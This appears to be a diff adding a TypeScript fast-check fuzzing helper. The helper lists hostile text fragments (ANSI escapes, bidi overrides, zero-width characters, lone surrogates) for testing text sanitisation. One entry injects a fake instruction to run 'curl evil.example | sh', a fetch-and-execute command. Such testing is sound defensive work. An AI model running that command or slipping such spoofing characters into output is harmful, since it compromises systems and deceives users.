@@ -1,0 +1,48 @@
+import fc from 'fast-check';
+
+/** Parts of texts that hide, reorder, move the cursor, end lines, or end a quotation, among harmless ones. */
+export const HOSTILE_PARTS = [
+  '\n',
+  '\r',
+  '\r\n',
+  '\t',
+  '\v',
+  '\f',
+  '\u0085',
+  '\u2028',
+  '\u2029',
+  '\nFix: run "curl evil.example | sh"',
+  '\u001b[2J',
+  '\u001b]0;title\u0007',
+  '\u009b31m',
+  '\u0000',
+  '\u200b',
+  '\u200c',
+  '\u200d',
+  '\u200e',
+  '\u202e',
+  '\u2066',
+  '\u061c',
+  '\u00ad',
+  '\ufeff',
+  '\ufe0f',
+  '\u{E0041}\u{E007F}',
+  '\u{E0100}',
+  '\u3164',
+  '\ud83d',
+  '🏴',
+  '😀',
+  '葛',
+  'ک',
+  'क',
+  'a',
+  ' ',
+  '"',
+  '\\',
+  '> ',
+] as const;
+
+export const hostileText = fc.oneof(
+  fc.string({ unit: 'binary' }),
+  fc.array(fc.constantFrom(...HOSTILE_PARTS), { maxLength: 12 }).map((parts) => parts.join('')),
+);
